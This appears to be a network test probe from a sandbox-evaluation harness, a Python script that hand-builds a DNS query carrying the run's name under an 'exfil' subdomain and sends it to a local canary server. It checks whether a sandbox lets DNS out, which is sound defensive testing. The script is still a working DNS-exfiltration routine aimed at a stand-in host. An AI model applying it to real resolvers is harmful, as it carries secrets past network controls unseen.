# name: DNS exfiltration
# category: network
# expect: marker DNS_ANSWERED
# A hand-built DNS A query whose name carries data out (here the run's name as a label), sent straight
# to the harness's canary DNS server on 127.0.0.1 over UDP, never to a real resolver. A tier that lets
# DNS out "for convenience" leaks anything an attacker encodes in the names.
import errno
import os
import socket
import struct
import sys

PORT = @DNS_PORT@
QNAME = "@RUN_NAME@.exfil.sandbench.test"


def denied(operation, e):
    name = "ETIMEDOUT" if isinstance(e, TimeoutError) else errno.errorcode.get(e.errno, str(e.errno))
    print(f"DENIED {operation} {name}", file=sys.stderr)
    sys.exit(1)


def encode_name(name):
    out = b""
    for label in name.split("."):
        raw = label.encode("ascii")
        if not 0 < len(raw) < 64:
            raise ValueError(f"bad DNS label {label!r}")
        out += bytes([len(raw)]) + raw
    return out + b"\0"


query_id = struct.unpack("!H", os.urandom(2))[0]
# Header: id, flags (RD), 1 question, 0 answers, 0 authority, 0 additional; then QNAME, QTYPE A, QCLASS IN.
query = struct.pack("!HHHHHH", query_id, 0x0100, 1, 0, 0, 0) + encode_name(QNAME) + struct.pack("!HH", 1, 1)

try:
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
except OSError as e:
    denied("socket(AF_INET,SOCK_DGRAM)", e)
s.settimeout(2)
try:
    s.connect(("127.0.0.1", PORT))  # connected, so "port unreachable" comes back as ECONNREFUSED
    s.send(query)
except OSError as e:
    denied(f"send(127.0.0.1:{PORT}/dns)", e)
try:
    reply = s.recv(4096)
except OSError as e:
    denied(f"recv(127.0.0.1:{PORT}/dns)", e)
s.close()

if len(reply) < 12:
    print(f"a {len(reply)}-byte reply is no DNS message", file=sys.stderr)
    print(f"DENIED recv(127.0.0.1:{PORT}/dns) EBADMSG", file=sys.stderr)
    sys.exit(1)
reply_id, flags, qdcount, ancount = struct.unpack("!HHHH", reply[:8])
if reply_id != query_id or not flags & 0x8000:
    print(f"reply id {reply_id:#06x} flags {flags:#06x}, query id {query_id:#06x}: not an answer to it",
          file=sys.stderr)
    print(f"DENIED recv(127.0.0.1:{PORT}/dns) EBADMSG", file=sys.stderr)
    sys.exit(1)

# The first A record's address, if the answer section is well formed (for the evidence only).
address = "?"
try:
    at = 12
    for _ in range(qdcount):
        while reply[at] and reply[at] < 0xC0:
            at += reply[at] + 1
        at += 2 if reply[at] >= 0xC0 else 1
        at += 4
    for _ in range(ancount):
        if reply[at] >= 0xC0:
            at += 2
        else:
            while reply[at]:
                at += reply[at] + 1
            at += 1
        rtype, _rclass, _ttl, rdlength = struct.unpack("!HHIH", reply[at:at + 10])
        at += 10
        if rtype == 1 and rdlength == 4:
            address = socket.inet_ntoa(reply[at:at + 4])
            break
        at += rdlength
except (IndexError, struct.error):
    pass
print("DNS_ANSWERED", f"{QNAME} -> {address} (rcode {flags & 0xF}, {ancount} answers)")
